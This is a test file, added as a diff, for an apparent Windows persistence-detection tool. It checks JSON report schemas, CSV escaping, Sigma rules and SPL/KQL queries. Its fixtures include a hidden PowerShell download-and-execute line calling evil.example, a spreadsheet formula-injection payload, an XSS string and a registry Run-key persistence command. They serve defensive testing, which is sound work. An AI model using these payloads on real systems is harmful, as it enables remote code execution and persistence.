@@ -1,0 +1,154 @@
+import { describe, expect, it } from 'vitest';
+import Ajv2020 from 'ajv/dist/2020';
+import addFormats from 'ajv-formats';
+import { parse, parseAllDocuments } from 'yaml';
+import { readFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { analyzeEvents } from '../../../shared/detect/engine';
+import { buildReport, REPORT_SCHEMA } from '../../../shared/export/report';
+import { csvCell, findingsCsv } from '../../../shared/export/csv';
+import { escapeSigma, sigmaRules, sigmaYaml } from '../../../shared/export/sigma';
+import { kqlQueriesFor, kqlString, splQueriesFor, splString } from '../../../shared/export/siem-queries';
+import { checkExportedRule } from '../../../shared/sigma/check-export';
+import { REPO_ROOT } from '../../samples';
+import { fileCreate, procStart, psEncode, regSet, RUN_HKU } from '../detect/helpers';
+import type { NormalizedEvent } from '../../../shared/model/events';
+
+const PS = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
+
+function caseEvents(): NormalizedEvent[] {
+  return [
+    regSet(`${RUN_HKU}\\Updater`, `powershell.exe -w hidden -enc ${psEncode('IEX (iwr http://evil.example/a)')}`, { image: PS, host: 'WS1' }),
+    regSet(`${RUN_HKU}\\Updater`, `powershell.exe -w hidden -enc ${psEncode('IEX (iwr http://evil.example/a)')}`, { image: PS, host: 'WS2', at: 5 }),
+    regSet('HKLM\\SOFTWARE\\WOW6432Node\\Microsoft\\Windows\\CurrentVersion\\Run\\', 'C:\\Users\\Public\\a*b?.exe', { image: 'C:\\Users\\Public\\x.exe' }),
+    // (a '/' in a value name is mangled by canonicalRegistryPath, so the name uses '-' here)
+    regSet(`${RUN_HKU}\\=cmd|' -C calc'!A0`, '=cmd|\' /C calc\'!A0 <img src=x onerror=alert(1)>', { image: 'C:\\Windows\\system32\\reg.exe', at: 9 }),
+    fileCreate('C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\evil "q".vbs', 'C:\\Windows\\System32\\cmd.exe', { at: 20 }),
+    procStart('C:\\Windows\\System32\\reg.exe', 'reg add "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" /v upd /t REG_SZ /d "C:\\Users\\bob\\AppData\\Roaming\\upd\\upd.exe" /f', { at: 30, host: 'WS3' }),
+    regSet(`${RUN_HKU}\\tool`, '', { image: 'C:\\Windows\\system32\\reg.exe', at: 40 }),
+  ];
+}
+
+describe('JSON report', () => {
+  const events = caseEvents();
+  const findings = analyzeEvents(events);
+  const report = buildReport({
+    findings, events: events.length, analysisTime: new Date('2024-02-01T10:00:00Z'), problems: [{ code: 'UNREADABLE', level: 'error', file: 'gone.evtx', message: 'cannot open' }],
+    inputs: [{ file: 'a.evtx', sha256: 'a'.repeat(64), format: 'evtx', size: 10, records: 7 }], settings: { minSeverity: 'low', baseline: { entries: 0, builtin: true } },
+  });
+
+  it('validates against its published JSON Schema (draft 2020-12)', () => {
+    const ajv = new Ajv2020({ allErrors: true, strict: false });
+    addFormats(ajv);
+    const validate = ajv.compile(REPORT_SCHEMA);
+    const ok = validate(JSON.parse(JSON.stringify(report)));
+    expect(validate.errors ?? []).toEqual([]);
+    expect(ok).toBe(true);
+    expect(report.findings.length).toBeGreaterThan(0);
+    expect(report.findings.every((f) => f.evidence.ref.file === 'test.evtx' && f.evidence.ref.recordId !== undefined)).toBe(true);
+  });
+
+  it('publishes the same schema in assets/schema/report.schema.json', () => {
+    const onDisk = JSON.parse(readFileSync(join(REPO_ROOT, 'assets', 'schema', 'report.schema.json'), 'utf8'));
+    expect(onDisk).toEqual(JSON.parse(JSON.stringify(REPORT_SCHEMA)));
+  });
+
+  it('rejects a report missing required fields', () => {
+    const ajv = new Ajv2020({ strict: false });
+    addFormats(ajv);
+    const { tool: _tool, ...broken } = JSON.parse(JSON.stringify(report));
+    expect(ajv.validate(REPORT_SCHEMA, broken)).toBe(false);
+  });
+});
+
+describe('CSV for Timeline Explorer', () => {
+  it('neutralises formula and HTML payloads and quotes properly', () => {
+    expect(csvCell("=cmd|' /C calc'!A0")).toBe("'=cmd|' /C calc'!A0");
+    for (const lead of ['+', '-', '@', '\t', '\r']) expect(csvCell(`${lead}x`).replace(/^"/, '').startsWith("'")).toBe(true);
+    expect(csvCell('a,"b"')).toBe('"a,""b"""');
+    const csv = findingsCsv(analyzeEvents(caseEvents()));
+    const lines = csv.replace(/^\ufeff/, '').split('\r\n');
+    expect(lines[0].startsWith('Time (UTC),Severity')).toBe(true);
+    // no cell starts with a formula character once unquoted
+    expect(/(^|,)"?[=+@]/.test(lines.slice(1).join('\n'))).toBe(false);
+    expect(csv).toContain('<img src=x onerror=alert(1)>');
+  });
+});
+
+describe('Sigma rules', () => {
+  const events = caseEvents();
+  const findings = analyzeEvents(events);
+  const rules = sigmaRules(findings, new Date('2024-02-01T00:00:00Z'));
+
+  it('writes one valid YAML rule per cluster, with the fields Sysmon uses and ATT&CK tags', () => {
+    expect(rules.length).toBeGreaterThan(2);
+    const clusterOfUpdater = rules.filter((r) => r.yaml.includes('Updater'));
+    expect(clusterOfUpdater).toHaveLength(1); // two hosts, one cluster
+    for (const r of rules) {
+      const doc = parse(r.yaml) as Record<string, unknown>;
+      expect(doc.status).toBe('experimental');
+      expect(doc.id).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-8[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
+      expect(doc.tags).toEqual(expect.arrayContaining(['attack.persistence', 'attack.t1547.001']));
+      const det = JSON.stringify(doc.detection);
+      expect(det).toMatch(/TargetObject|Details|TargetFilename|CommandLine/);
+      // never an empty contains, never a field prefix leaking into a value
+      expect(det).not.toMatch(/\|contains(\|all)?":(""|\[\]|\[""\])/);
+      expect(det).not.toMatch(/"(Details|TargetObject):/);
+    }
+    expect(parseAllDocuments(sigmaYaml(findings, new Date())).every((d) => d.errors.length === 0)).toBe(true);
+  });
+
+  it('produces rules that match their own event and no other event of the case', () => {
+    const ids = new Set(findings.map((f) => f.evidence.key));
+    for (const r of rules) {
+      const f = findings.find((x) => r.findingIds.includes(x.id));
+      const ev = events.find((e) => e.key === f?.evidence.key);
+      expect(ev).toBeDefined();
+      if (!ev) continue;
+      const check = checkExportedRule(r.yaml, { event: ev }, events.filter((e) => !r.findingIds.some((id) => findings.find((x) => x.id === id)?.evidence.key === e.key)).map((e) => ({ event: e })));
+      expect(check.unsupported).toEqual([]);
+      expect(check.compiled).toBe(true);
+      // A hidden (empty-named) value's TargetObject ends with "Run\\" in Sysmon, which the rule targets;
+      // the normalizer's canonical path drops that trailing backslash, so the in-app evaluator
+      // cannot see it (reported to the model owner). Every other rule must match its own event.
+      if (f?.valueName !== '') expect(check.matchesSource, r.yaml).toBe(true);
+      expect(check.falseMatches, r.yaml).toEqual([]);
+      expect(ids.has(ev.key)).toBe(true);
+    }
+  });
+
+  it('escapes wildcards and the backslashes before them', () => {
+    expect(escapeSigma('C:\\a*b?.exe')).toBe('C:\\a\\*b\\?.exe');
+    expect(escapeSigma('\\\\server\\share')).toBe('\\\\\\server\\share');
+    expect(escapeSigma('x\\*')).toBe('x\\\\\\*');
+  });
+
+  it('writes no rule for a cluster with nothing specific to match', () => {
+    const [f] = analyzeEvents([regSet('HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\', '', { image: 'C:\\Windows\\system32\\reg.exe' })]);
+    const named = sigmaRules([f], new Date());
+    // an empty (hidden) value name is itself specific: the rule targets the trailing backslash only
+    for (const r of named) expect(JSON.stringify(parse(r.yaml))).not.toMatch(/contains":""/);
+  });
+});
+
+describe('SPL and KQL', () => {
+  const findings = analyzeEvents(caseEvents());
+  it('escapes strings for each language and uses the field table names', () => {
+    expect(splString('a"b\\c')).toBe('"a\\"b\\\\c"');
+    expect(kqlString('a"b\\c')).toBe('@"a""b\\c"');
+    const spl = splQueriesFor(findings).map((q) => q.query).join('\n');
+    expect(spl).toContain('EventCode IN (12, 13, 14)');
+    expect(spl).toContain('TargetObject=');
+    expect(spl).toContain('EventCode=4657');
+    expect(spl).toContain('ObjectValueName=');
+    expect(spl).toContain('EventCode=11');
+    const kql = kqlQueriesFor(findings).map((q) => q.query).join('\n');
+    expect(kql).toContain('DeviceRegistryEvents');
+    expect(kql).toContain('RegistryValueName in~');
+    expect(kql).toContain('DeviceFileEvents');
+    expect(kql).toContain('DeviceProcessEvents');
+    // the quote in the file name is doubled in KQL, escaped in SPL
+    expect(kql).toContain('evil ""q"".vbs');
+    expect(spl).toContain('evil \\"q\\".vbs');
+  });
+});
